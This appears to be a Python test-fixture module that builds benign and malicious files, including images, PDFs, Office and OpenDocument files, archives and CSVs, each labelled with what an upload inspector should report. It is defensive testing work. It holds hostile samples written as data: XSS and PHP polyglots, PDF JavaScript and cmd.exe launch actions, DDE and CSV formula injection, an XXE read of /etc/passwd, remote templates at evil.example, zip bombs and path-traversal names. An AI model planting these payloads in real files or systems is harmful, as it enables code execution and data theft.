"""Files good and bad, built here so that nothing harmful is checked in; each with what the inspection must answer."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from fpdf import FPDF
from PIL import Image, TiffImagePlugin

CANARY = b"canary-4711"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = {
    "docx": ("word/document.xml", "wordprocessingml.document"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation"),
}
ODF = "application/vnd.oasis.opendocument."


@dataclass(frozen=True)
class Case:
    """A file and its verdict: the empty reason passes."""

    label: str
    kind: str
    content: bytes
    reason: str = ""


# ── Builders ────────────────────────────────────────────────────────────────────────────────────────────────────────
def packed(entries: dict[str, bytes | str], *, stored: tuple[str, ...] = (), **attributes: int) -> bytes:
    """Return a ZIP archive; ``attributes`` are set on every entry."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            entry = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
            entry.compress_type = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            for attribute, value in attributes.items():
                setattr(entry, attribute, value)
            archive.writestr(entry, content)
    return buffer.getvalue()


def parts(kind: str = "docx", **more: bytes | str) -> dict[str, bytes | str]:
    """Return the parts of a plain office document; ``more`` adds parts, "__" standing for "/" and "_dot_" for "."."""
    name, media = MAIN[kind]
    types = f"application/vnd.openxmlformats-officedocument.{media}.main+xml"
    found: dict[str, bytes | str] = {
        "[Content_Types].xml": f'<Types xmlns="{TYPES}"><Override PartName="/{name}" ContentType="{types}"/></Types>',
        "_rels/.rels": relations(("r1", "officeDocument", name, "")),
        name: '<w:document xmlns:w="w"><w:body><w:p><w:r><w:t>Bonjour</w:t></w:r></w:p></w:body></w:document>',
    }
    return found | {key.replace("__", "/").replace("_dot_", "."): value for key, value in more.items()}


def relations(*rows: tuple[str, str, str, str]) -> str:
    """Return a part of relations from (id, type, target, mode)."""
    inner = "".join(
        f'<Relationship Id="{key}" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode or "Internal"}"/>'
        for key, kind, target, mode in rows
    )
    return f'<Relationships xmlns="{RELATIONS}">{inner}</Relationships>'


def office(kind: str = "docx", **more: bytes | str) -> bytes:
    """Return an office document."""
    return packed(parts(kind, **more))


def odf(kind: str = "text", content: str = "<office:document-content/>", **more: bytes | str) -> bytes:
    """Return an OpenDocument."""
    found: dict[str, bytes | str] = {
        "mimetype": ODF + kind,
        "content.xml": content,
        "META-INF/manifest.xml": "<manifest:manifest/>",
    }
    found |= {key.replace("__", "/").replace("_dot_", "."): value for key, value in more.items()}
    return packed(found, stored=("mimetype",))


def pdf() -> bytes:
    """Return a PDF as our own certificates are made."""
    page = FPDF()
    page.add_page()
    page.set_font("helvetica", size=12)
    page.cell(text="Bonjour")
    return bytes(page.output())


def pdf_with(objects: bytes) -> bytes:
    """Return a PDF with further objects in the open."""
    head, end = pdf().split(b"xref\n", 1)
    return head + objects + b"\nxref\n" + end


def object_stream(
    content: bytes, words: bytes = b"/Filter /FlateDecode", pack: Callable[[bytes], bytes] = zlib.compress
) -> bytes:
    """Return an object stream that holds ``content``."""
    data = pack(b"9 0 " + content)
    return b"8 0 obj\n<</Type /ObjStm /N 1 /First 4 %s /Length %d>>\nstream\n%s\nendstream\nendobj" % (
        words,
        len(data),
        data,
    )


def picture(form: str, size: tuple[int, int] = (60, 40), mode: str = "RGB", **options: object) -> bytes:
    """Return a picture with a gradient."""
    buffer = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert(mode).save(buffer, form, **options)
    return buffer.getvalue()


def placed_picture() -> bytes:
    """Return a JPEG that says where and with what it was taken, turned on its side."""
    exif = Image.Exif()
    exif[0x010F] = CANARY.decode()
    exif[0x0112] = 6
    exif.get_ifd(0x8825).update({1: "N", 2: (TiffImagePlugin.IFDRational(36), 48.0, 0.0)})
    return picture("JPEG", exif=exif, comment=CANARY)


def png_of(width: int, height: int) -> bytes:
    """Return a PNG of a few bytes that claims to be large."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")
    )


def lying(data: bytes, name: bytes = b"word/document.xml") -> bytes:
    """Return an archive whose directory says that one entry is of one byte."""
    directory = data.index(b"PK\x01\x02")
    while data[directory + 46 : directory + 46 + len(name)] != name:
        directory = data.index(b"PK\x01\x02", directory + 4)
    return data[: directory + 24] + struct.pack("<I", 1) + data[directory + 28 :]


def cases() -> list[Case]:
    """Return every case."""
    return [*_pictures(), *_pdfs(), *_office(), *_archives(), *_texts()]


# ── Cases ───────────────────────────────────────────────────────────────────────────────────────────────────────────
def _pictures() -> list[Case]:
    plain = picture("JPEG")
    return [
        Case("jpeg", "jpeg", plain),
        Case("jpeg in print colours", "jpeg", picture("JPEG", mode="CMYK")),
        Case("png", "png", picture("PNG")),
        Case("png with transparency", "png", picture("PNG", mode="RGBA")),
        Case("png with a palette", "png", picture("PNG", mode="P")),
        Case("webp", "webp", picture("WEBP")),
        Case("jpeg with place and camera", "jpeg", placed_picture()),
        Case("jpeg and archive at once", "jpeg", plain + packed({"a.txt": CANARY})),
        Case("png and program at once", "png", picture("PNG") + b"<?php system('" + CANARY + b"'); ?>"),
        Case("gif and page at once, named png", "png", b"GIF89a/*<html>*/", "mismatch"),
        Case("svg named png", "png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "mismatch"),
        Case("page named jpg", "jpeg", b"<!doctype html><script>alert(1)</script>", "mismatch"),
        Case("png named jpg", "jpeg", picture("PNG"), "mismatch"),
        Case("sound named webp", "webp", b"RIFF\x24\0\0\0WAVEfmt \x10\0\0\0", "mismatch"),
        Case("jpeg cut in half", "jpeg", plain[: len(plain) // 2], "damaged"),
        Case("png cut in half", "png", picture("PNG", (300, 300))[:-200], "damaged"),
        Case("only a signature", "png", b"\x89PNG\r\n\x1a\n", "mismatch"),
        Case("25 million pixels", "png", png_of(5001, 5000), "pixels"),
        Case("900 million pixels", "png", png_of(30_000, 30_000), "pixels"),
        Case("just below the limit, without data", "png", png_of(4800, 5000), "damaged"),
        Case("empty png", "png", b"", "empty"),
    ]


def _pdfs() -> list[Case]:
    script = b"9 0 obj\n<</S /JavaScript /JS (app.alert\\(1\\))>>\nendobj"
    return [
        Case("pdf", "pdf", pdf()),
        Case("pdf with its objects packed", "pdf", pdf_with(object_stream(b"<</Type /Catalog>>"))),
        Case("pdf that opens on a page", "pdf", pdf_with(b"9 0 obj\n<</OpenAction [3 0 R /Fit]>>\nendobj")),
        Case("pdf with a link", "pdf", pdf_with(b"9 0 obj\n<</S /URI /URI (https://example.org)>>\nendobj")),
        Case("pdf with a script", "pdf", pdf_with(script), "active"),
        Case("pdf with a script spelled in numbers", "pdf", pdf_with(script.replace(b"Java", b"J#61v#61")), "active"),
        Case("pdf with a packed script", "pdf", pdf_with(object_stream(b"<</S /JavaScript /JS 1 0 R>>")), "active"),
        Case(
            "pdf with a script in a stream that does not say what it is",
            "pdf",
            pdf_with(object_stream(b"<</S /JavaScript>>").replace(b"/ObjStm", b"/XObject")),
            "active",
        ),
        Case(
            "pdf with a twice packed object stream",
            "pdf",
            pdf_with(
                object_stream(
                    b"<</S /JavaScript>>",
                    b"/Filter [/FlateDecode /FlateDecode]",
                    lambda data: zlib.compress(zlib.compress(data)),
                )
            ),
            "unreadable",
        ),
        Case(
            "pdf with an object stream in another packing",
            "pdf",
            pdf_with(object_stream(b"<<>>", b"/Filter /ASCIIHexDecode", lambda data: data.hex().encode())),
            "unreadable",
        ),
        Case("pdf that starts a program", "pdf", pdf_with(b"9 0 obj\n<</S /Launch /F (cmd.exe)>>\nendobj"), "active"),
        Case("pdf that sends what is typed", "pdf", pdf_with(b"9 0 obj\n<</S /SubmitForm>>\nendobj"), "active"),
        Case("pdf with a dynamic form", "pdf", pdf_with(b"9 0 obj\n<</XFA 8 0 R>>\nendobj"), "active"),
        Case("pdf with a file inside", "pdf", pdf_with(b"9 0 obj\n<</Type /EmbeddedFile>>\nendobj"), "embedded"),
        Case(
            "pdf with a list of files inside", "pdf", pdf_with(b"9 0 obj\n<</EmbeddedFiles 8 0 R>>\nendobj"), "embedded"
        ),
        Case("pdf with a password", "pdf", pdf_with(b"trailer\n<</Encrypt 9 0 R>>"), "encrypted"),
        Case("pdf that unpacks without end", "pdf", pdf_with(object_stream(b" " * 60_000_000)), "bomb"),
        Case("pdf and page at once", "pdf", b"<html><!--" + pdf(), "mismatch"),
        Case("pdf and archive at once", "pdf", pdf() + packed({"a.txt": CANARY}) + b"\n%%EOF", "mismatch"),
        Case("pdf cut in half", "pdf", pdf()[:600], "damaged"),
        Case("only a signature of pdf", "pdf", b"%PDF-1.7", "damaged"),
        Case("empty pdf", "pdf", b"", "empty"),
    ]


def _office() -> list[Case]:
    rels = "word___rels__document_dot_xml_dot_rels"
    macro = {"word__vbaProject_dot_bin": b"\xd0\xcf\x11\xe0"}
    return [
        *(Case(kind, kind, office(kind)) for kind in MAIN),
        Case("odt", "odt", odf()),
        Case("ods", "ods", odf("spreadsheet")),
        Case("odp", "odp", odf("presentation")),
        Case(
            "docx with a link to a page",
            "docx",
            office(**{rels: relations(("r1", "hyperlink", "https://example.org", "External"))}),
        ),
        Case("pptx with a chart and its table", "pptx", office("pptx", ppt__embeddings__table_dot_xlsx=office("xlsx"))),
        Case("docx with a macro", "docx", office(**macro), "active"),
        Case(
            "docx that says it has macros",
            "docx",
            packed(parts() | {"[Content_Types].xml": parts()["[Content_Types].xml"] + "<!-- macroEnabled -->"}),
            "active",
        ),
        Case("docx with a control", "docx", office(word__activeX__activeX1_dot_bin=b"x"), "active"),
        Case("xlsx with old macro sheets", "xlsx", office("xlsx", xl__macrosheets__sheet1_dot_xml="<a/>"), "active"),
        Case(
            "docx with a command in a field",
            "docx",
            office(word__header1_dot_xml='<w:instrText xml:space="preserve"> DDEAUTO c:\\cmd</w:instrText>'),
            "active",
        ),
        Case(
            "docx with an outside template",
            "docx",
            office(**{rels: relations(("r1", "attachedTemplate", "http://evil.example/t.dotm", "External"))}),
            "external",
        ),
        Case(
            "docx with an outside picture",
            "docx",
            office(**{rels: relations(("r1", "image", "http://evil.example/p.png", "External"))}),
            "external",
        ),
        Case(
            "xlsx with links to other files",
            "xlsx",
            office("xlsx", xl__externalLinks__externalLink1_dot_xml="<a/>"),
            "external",
        ),
        Case("docx with a program inside", "docx", office(word__embeddings__oleObject1_dot_bin=b"MZ"), "embedded"),
        Case(
            "docx with a document with a macro inside",
            "docx",
            office(word__embeddings__inner_dot_docx=office(**macro)),
            "active",
        ),
        Case(
            "docx in docx in docx",
            "docx",
            office(word__embeddings__a_dot_docx=office(word__embeddings__b_dot_docx=office())),
            "embedded",
        ),
        Case(
            "docx that reads a file of the server",
            "docx",
            office(word__settings_dot_xml='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
            "active",
        ),
        Case(
            "docx with a billion laughs",
            "docx",
            office(word__settings_dot_xml='<!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;">]><a>&y;</a>'),
            "active",
        ),
        Case(
            "docx with a declaration in UTF-16",
            "docx",
            office(word__settings_dot_xml='<!DOCTYPE a [<!ENTITY x "ha">]><a/>'.encode("utf-16")),
            "active",
        ),
        Case("docx with broken relations", "docx", office(**{rels: "<Relationships"}), "damaged"),
        Case("xlsx named docx", "docx", office("xlsx"), "mismatch"),
        Case("odt named ods", "ods", odf(), "mismatch"),
        Case("any archive named docx", "docx", packed({"a.txt": "a"}), "mismatch"),
        Case("old document named docx", "docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "encrypted"),
        Case("page named docx", "docx", b"<html><script>alert(1)</script>", "mismatch"),
        Case("odt with a macro", "odt", odf(Basic__Standard__Module1_dot_xml="<a/>"), "active"),
        Case("odt with a script", "odt", odf(Scripts__python__a_dot_py="import os"), "active"),
        Case(
            "odt with a program inside",
            "odt",
            odf(**{"META-INF__manifest_dot_xml": '<a type="application/vnd.sun.star.oleobject"/>'}),
            "embedded",
        ),
        Case(
            "odt that fetches",
            "odt",
            odf(content='<text:section-source xlink:href="http://evil.example/"/>'),
            "external",
        ),
        Case("ods that asks another program", "ods", odf("spreadsheet", "<table:dde-link/>"), "active"),
        Case(
            "odt with a password",
            "odt",
            odf(**{"META-INF__manifest_dot_xml": "<manifest:encryption-data/>"}),
            "encrypted",
        ),
    ]


def _archives() -> list[Case]:
    good = parts()
    link = 0o120777 << 16
    return [
        Case("docx that unpacks to 60 MB", "docx", office(word__a_dot_xml=b" " * 60_000_000), "bomb"),
        Case("docx packed 900 times", "docx", office(word__a_dot_xml=b" " * 9_000_000), "bomb"),
        Case("docx of 1,001 entries", "docx", packed(good | {f"word/{n}.xml": "<a/>" for n in range(998)}), "bomb"),
        Case("docx of 1,000 entries", "docx", packed(good | {f"word/{n}.xml": "<a/>" for n in range(997)})),
        Case(
            "docx in which a docx unpacks too far",
            "docx",
            office(word__embeddings__a_dot_docx=office(word__a_dot_xml=b" " * 60_000_000)),
            "bomb",
        ),
        Case("docx that leaves its directory", "docx", packed(good | {"../../etc/passwd": "x"}), "unsafe_names"),
        Case("docx with a root path", "docx", packed(good | {"/etc/passwd": "x"}), "unsafe_names"),
        Case("docx with a path of Windows", "docx", packed(good | {"..\\evil.xml": "x"}), "unsafe_names"),
        Case("docx with a drive", "docx", packed(good | {"c:evil.xml": "x"}), "unsafe_names"),
        Case("docx with a link", "docx", packed(good, external_attr=link), "unsafe_names"),
        Case("docx with two parts of one name", "docx", packed(good | {"WORD/document.xml": "x"}), "unsafe_names"),
        Case("docx that lies about a size", "docx", lying(packed(good)), "damaged"),
        Case("docx with a locked part", "docx", _locked(packed(good)), "encrypted"),
        Case("docx with something before it", "docx", b"MZ" + packed(good), "mismatch"),
        Case("docx cut in half", "docx", packed(good)[:200], "damaged"),
        Case("docx with a changed byte", "docx", _changed(packed(good)), "damaged"),
        Case("empty docx", "docx", b"", "empty"),
    ]


def _locked(data: bytes) -> bytes:
    directory = data.index(b"PK\x01\x02")
    return data[: directory + 8] + b"\x01" + data[directory + 9 :]


def _changed(data: bytes) -> bytes:
    place = data.index(b"[Content_Types].xml") + 30
    return data[:place] + bytes([data[place] ^ 0x55]) + data[place + 1 :]


def _texts() -> list[Case]:
    return [
        Case("text", "txt", "Bonjour\r\nمرحبا\tà vous".encode()),
        Case("text in UTF-16", "txt", "مرحبا".encode("utf-16")),
        Case("text in an old encoding", "txt", "déjà vu".encode("cp1252")),
        Case("page as text, which nobody opens as a page", "txt", b"<script>alert(1)</script>"),
        Case("test virus as text, when no scanner is set", "txt", EICAR),
        Case("table", "csv", b"name,hours\nAmina,-4\n"),
        Case("table with a formula", "csv", b"name,sum\nAmina,=1+2\n"),
        Case("table with a command", "csv", b"name,sum\nAmina,=cmd|'/C calc'!A0\n", "active"),
        Case("program as text", "txt", b"MZ\x90\0\x03\0\0\0", "not_text"),
        Case("archive as text", "txt", packed({"a.txt": "a"}), "not_text"),
        Case("pdf as text", "txt", pdf(), "not_text"),
        Case("text with a NUL", "txt", b"Bonjour\0", "not_text"),
        Case("half a letter in UTF-16", "txt", b"\xff\xfea", "not_text"),
        Case("empty text", "txt", b"", "empty"),
    ]
